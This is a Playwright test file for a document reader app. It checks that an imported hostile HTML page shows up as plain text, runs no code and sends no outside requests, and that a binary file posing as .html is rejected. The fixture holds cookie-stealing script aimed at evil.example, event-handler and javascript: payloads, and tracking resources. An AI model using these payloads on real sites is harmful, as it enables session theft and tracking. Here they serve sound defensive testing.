import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, SAMPLE_PATH, test } from './fixtures'
import { DossierWindow } from './models/DossierWindow'

const HOSTILE_HTML = `<!doctype html>
<html lang="en"><head>
<title>Council approves the harbour budget | Hostile Gazette</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/redirect">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>body { background: url(https://evil.example/bg.png) }</style>
<script>window.__pwned = true; fetch('https://evil.example/steal?c=' + document.cookie)</script>
</head><body>
<article>
<h1>Council approves the harbour budget</h1>
<p>The city council approved a budget of 12 million euros for the harbour on Tuesday, the mayor said.<img src="x" onerror="window.__pwned = true"></p>
<p>Opposition members called the plan <a href="javascript:window.__pwned=true">reckless</a> and asked for an audit of past spending.</p>
<iframe src="https://evil.example/frame"></iframe>
<p style="background-image: url('https://evil.example/track.gif')">Work on the new quay is to begin in the spring and take two years.</p>
<img src="https://evil.example/tracker.png" alt="">
<object data="https://evil.example/flash.swf"></object>
<svg><script>window.__pwned = true</script></svg>
</article>
</body></html>`

test('a hostile HTML file imports as readable text, runs nothing and fetches nothing', async ({ app }) => {
  const w = new DossierWindow(app.page)
  const requests: string[] = []
  app.page.on('request', (r) => requests.push(r.url()))
  app.page.on('dialog', (d) => void d.dismiss())
  const origin = new URL(app.page.url()).origin

  const file = join(app.workDir, 'hostile.html')
  writeFileSync(file, HOSTILE_HTML)
  await app.stubOpenDialog([file])
  await w.library.importButton().click()

  await expect(w.reader.title()).toHaveText('Council approves the harbour budget')
  await expect(w.reader.root).toContainText('approved a budget of 12 million euros')
  await expect(w.reader.root).toContainText('called the plan reckless and asked for an audit')
  await expect(w.reader.root).toContainText('Work on the new quay is to begin in the spring')
  await expect(w.reader.root.locator('script, iframe, object, img, a[href^="javascript"], [onerror]')).toHaveCount(0)
  expect(await app.page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined()

  // Its original can be looked at as source: shown, never rendered.
  await w.reader.root.getByRole('button', { name: 'View original' }).click()
  const original = app.page.getByRole('dialog', { name: 'Original file' })
  await expect(original).toContainText("<script>window.__pwned = true; fetch('https://evil.example/steal")
  await expect(original.locator('script, iframe, img, object')).toHaveCount(0)
  await app.page.keyboard.press('Escape')
  await expect(original).toHaveCount(0)
  expect(await app.page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined()

  await app.page.waitForTimeout(500)
  const outside = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('file:') && !u.startsWith('data:'))
  expect(outside).toEqual([])
})

test('a binary file gets a message naming it, and the library stays as it was', async ({ app }) => {
  const w = new DossierWindow(app.page)
  await app.stubOpenDialog([SAMPLE_PATH])
  await w.library.importButton().click()
  await expect(w.library.entries()).toHaveCount(1)

  const png = join(app.workDir, 'screenshot.html')
  writeFileSync(png, Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 1, 0]))
  await app.stubOpenDialog([png])
  await w.library.importButton().click()

  await expect(w.alert()).toContainText('screenshot.html')
  await expect(w.alert()).toContainText('binary')
  await expect(w.library.entries()).toHaveCount(1)
  await app.page.reload()
  await expect(w.library.entries()).toHaveCount(1)
})
